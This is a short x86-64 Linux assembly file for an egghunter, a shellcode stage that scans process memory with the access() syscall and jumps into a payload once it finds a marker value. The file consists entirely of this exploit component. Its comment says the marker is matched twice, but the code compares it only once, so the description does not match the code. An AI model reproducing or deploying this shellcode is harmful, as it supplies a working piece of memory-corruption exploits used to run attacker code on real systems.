; Linux, 64 bit: walks through memory with access() until it finds its mark twice.
bits 64
        xor rsi, rsi
        push rsi
        pop rdx
page:   or dx, 0xfff
next:   inc rdx
        lea rdi, [rdx + 8]
        push 21
        pop rax
        syscall
        cmp al, 0xf2
        je page
        mov eax, 0x50905090
        inc eax
        cmp [rdx + 4], eax
        jne next
        lea rdx, [rdx + 8]
        jmp rdx
